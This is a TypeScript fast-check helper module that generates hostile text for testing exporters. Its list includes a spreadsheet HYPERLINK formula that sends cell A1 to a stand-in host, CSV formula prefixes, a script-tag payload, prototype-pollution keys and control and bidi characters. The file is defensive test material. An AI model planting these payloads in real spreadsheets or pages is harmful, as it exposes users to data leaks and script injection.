import fc from 'fast-check';
import type { Span } from '../src/model/index.ts';

/** Texts that have broken exporters: formulas, markup, separators, controls, scripts of many directions and planes. */
export const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\tindented',
  '\rreturned',
  "'=already guarded",
  "''",
  '<script>alert(1)</script>',
  '"quoted", with commas\r\nand lines\n',
  ']]>&amp;&#0;',
  '{"id":1}\n{"id":2}',
  '__proto__',
  'constructor',
  '\u0000\u0007\u001b[31m',
  'line\u2028separator\u2029and\u0085next',
  'مرحبا بالعالم',
  '\u202Eright to left\u202C',
  '👩🏾‍⚖️ 𠮷野家 e\u0301',
  '＝wide formula',
  '\uFEFFmarked',
  '',
  ' ',
] as const;

export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom(...HOSTILE)).map((two) => two.join('')),
);

export const orNull = <T>(value: fc.Arbitrary<T>) => fc.option(value, { nil: null });
export const time = fc.integer({ min: 0, max: 4102444800000 });
export const confidence = fc.integer({ min: 0, max: 100 }).map((percent) => percent / 100);
export const few = <T>(value: fc.Arbitrary<T>) => fc.array(value, { maxLength: 3 });

/** Some fields always, each of the others now and then. */
export const some = <T extends object>(
  fields: { [K in keyof Required<T>]: fc.Arbitrary<T[K]> },
  required: (keyof T)[],
): fc.Arbitrary<T> => fc.record(fields, { requiredKeys: required as never }) as unknown as fc.Arbitrary<T>;

/** Spans between the text's characters, so that none cuts a character of two units in half. */
export const spanIn = (text: string): fc.Arbitrary<Span> => {
  const offsets = [0];
  for (const character of text) offsets.push(offsets.at(-1)! + character.length);
  return fc
    .tuple(fc.constantFrom(...offsets), fc.constantFrom(...offsets))
    .map(([one, other]) => [Math.min(one, other), Math.max(one, other)]);
};
